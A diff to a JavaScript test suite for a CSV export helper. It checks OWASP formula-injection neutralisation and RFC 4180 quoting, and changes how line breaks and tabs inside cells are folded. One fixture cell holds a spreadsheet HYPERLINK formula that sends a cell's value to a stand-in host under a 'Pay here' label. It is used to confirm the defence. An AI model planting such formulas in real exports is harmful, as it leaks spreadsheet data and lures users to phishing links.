@@ -14,8 +14,9 @@ const DANGEROUS_LEADS = ['=', '+', '-', '@', '\t', '\r'];
 describe('OWASP formula rule for text cells', () => {
   it.each(DANGEROUS_LEADS)('prefixes a text cell starting with %j with a single quote', (lead) => {
     expect(neutraliseFormula(`${lead}1+1`)).toBe(`'${lead}1+1`);
-    // Read back by a CSV parser, the cell is the quoted text: nothing starts with the lead.
-    expect(parse(csvRow([`${lead}1+1`]))).toEqual([[`'${lead}1+1`]]);
+    // Read back by a CSV parser, the cell is the quoted text: nothing starts with the lead (a tab or CR
+    // lead is then folded to a space, behind the quote).
+    expect(parse(csvRow([`${lead}1+1`]))).toEqual([[`'${lead.replace(/[\t\r]/, ' ')}1+1`]]);
   });
 
   it('leaves text that starts any other way alone, the quote included', () => {
@@ -30,12 +31,9 @@ describe('OWASP formula rule for text cells', () => {
 });
 
 describe('RFC 4180 quoting', () => {
-  it('quotes a cell with a comma, quote, line break, semicolon, tab or edge space, doubling quotes; leaves others bare', () => {
+  it('quotes a cell with a comma, quote, semicolon or edge space, doubling quotes; leaves others bare', () => {
     expect(csvCell('Water service charge, 5/8" meter')).toBe('"Water service charge, 5/8"" meter"');
-    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
-    expect(csvCell('line one\r\n=line two')).toBe('"line one\r\n=line two"');
     expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
-    expect(csvCell('a\tb')).toBe('"a\tb"');
     expect(csvCell(' padded')).toBe('" padded"');
     expect(csvCell('padded ')).toBe('"padded "');
     expect(csvCell('Ana Reader')).toBe('Ana Reader');
@@ -43,24 +41,35 @@ describe('RFC 4180 quoting', () => {
     expect(csvCell('')).toBe('');
   });
 
+  it('folds a line break or tab inside a cell (and the spaces around it) to one space, so every row is one line', () => {
+    expect(csvCell('line one\nline two')).toBe('line one line two');
+    expect(csvCell('line one \r\n  =line two')).toBe('line one =line two');
+    expect(csvCell('a\tb\u2028c\u0085d')).toBe('a b c d');
+    expect(csvCell('Suite 5\n\n\tBuilding C, rear')).toBe('"Suite 5 Building C, rear"');
+    const file = csvFile([['name', 'street'], ['Ana\nReader', '1 Elm St\tApt 2']]);
+    expect(file.split('\r\n')).toEqual(['name,street', 'Ana Reader,1 Elm St Apt 2', '']);
+    expect(file).not.toMatch(/[\t\n](?<!\r\n)/);
+  });
+
   it('a neutralised cell that also needs quotes gets both: the quote mark inside the double quotes', () => {
     expect(csvCell('=1,2')).toBe(`"'=1,2"`);
-    expect(csvCell('\tTabbed')).toBe(`"'\tTabbed"`);
-    expect(csvCell('\r\n=1+1')).toBe(`"'\r\n=1+1"`);
+    // The formula rule judges the cell as written, then the fold: a leading tab or line break keeps its quote.
+    expect(csvCell('\tTabbed')).toBe(`' Tabbed`);
+    expect(csvCell('\r\n=1+1')).toBe(`' =1+1`);
     expect(csvCell('-"x"')).toBe(`"'-""x"""`);
   });
 
   it('a file reads back, cell for cell, as the text written with the quote in front of a formula', () => {
     const rows = [
       ['name', 'street', 'amount', 'count'],
-      ['=HYPERLINK("http://x/?"&A1,"Pay here")', 'line\r\nbreak, "quoted"', decimalCell('-12.34'), 3],
+      ['=HYPERLINK("http://x/?"&A1,"Pay here")', 'line, "quoted"', decimalCell('-12.34'), 3],
       ['-12.34', '@x', decimalCell('0.00'), null],
     ];
     const file = csvFile(rows);
     expect(file.endsWith('\r\n')).toBe(true);
     expect(parse(file)).toEqual([
       ['name', 'street', 'amount', 'count'],
-      ['\'=HYPERLINK("http://x/?"&A1,"Pay here")', 'line\r\nbreak, "quoted"', '-12.34', '3'],
+      ['\'=HYPERLINK("http://x/?"&A1,"Pay here")', 'line, "quoted"', '-12.34', '3'],
       ["'-12.34", "'@x", '0.00', ''],
     ]);
   });
